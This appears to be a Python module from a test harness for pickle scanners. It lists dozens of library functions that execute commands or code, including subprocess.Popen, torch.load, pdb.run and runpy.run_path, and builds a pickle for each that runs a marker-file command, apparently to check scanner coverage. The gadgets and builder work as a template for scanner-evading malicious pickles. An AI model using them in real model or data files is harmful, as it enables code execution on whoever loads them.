"""Functions of the standard library, torch and numpy that run what they are given, as published against scanners of pickles."""

from pathlib import Path

from attacks.attack import Attack, main
from attacks.writing import call, pickled, text

# Each is called with a command and with code of Python.
GADGETS = [
    "asyncio.unix_events._UnixSubprocessTransport._start",
    "bdb.Bdb.run",
    "cProfile.run",
    "cProfile.runctx",
    "cloudpickle.loads",
    "code.InteractiveInterpreter.runcode",
    "ctypes.CDLL",
    "dill.loads",
    "distutils.file_util.write_file",
    "doctest.debug_script",
    "ensurepip._run_pip",
    "idlelib.autocomplete.AutoComplete.get_entity",
    "idlelib.pyshell.ModifiedInterpreter.runcode",
    "imaplib.IMAP4_stream",
    "joblib.load",
    "lib2to3.pgen2.pgen.ParserGenerator.make_label",
    "logging.config.dictConfig",
    "marshal.loads",
    "multiprocessing.util.spawnv_passfds",
    "numpy.f2py.crackfortran.getlincoef",
    "numpy.f2py.crackfortran.param_eval",
    "numpy.lib.npyio.load",
    "numpy.testing._private.utils.runstring",
    "pandas.eval",
    "pdb.run",
    "pickle.loads",
    "pickle._loads",
    "pip._internal.main",
    "profile.Profile.run",
    "pty.spawn",
    "pydoc.locate",
    "pydoc.pipepager",
    "runpy.run_path",
    "shutil.rmtree",
    "site.execsitecustomize",
    "ssl.get_server_certificate",
    "subprocess.Popen",
    "test.support.script_helper.assert_python_ok",
    "timeit.timeit",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch._inductor.codecache.compile_file",
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression",
    "torch.hub.load",
    "torch.jit.unsupported_tensor_ops.execWrapper",
    "torch.load",
    "torch.ops.load_library",
    "torch.serialization.add_safe_globals",
    "torch.utils._config_module.ConfigModule.load_config",
    "torch.utils.bottleneck.__main__.run_cprofile",
    "torch.utils.collect_env.run",
    "torch.utils.cpp_extension.load_inline",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "trace.Trace.run",
    "types.CodeType",
    "types.FunctionType",
    "urllib.request.urlopen",
    "uuid._get_command_stdout",
    "venv.create",
    "webbrowser.open",
    "xmlrpc.client.ServerProxy",
    "zipimport.zipimporter",
]


def file(gadget: str, marker: Path) -> bytes:
    """A pickle that calls a gadget with a command, then with code."""
    command, code = text(f"touch {marker}"), text(f"open({str(marker)!r}, 'w')")
    return pickled(b"(" + call(gadget, command) + call(gadget, code) + b"t")


ATTACKS = [Attack(gadget, lambda marker, gadget=gadget: file(gadget, marker)) for gadget in GADGETS]

if __name__ == "__main__":
    main(ATTACKS)
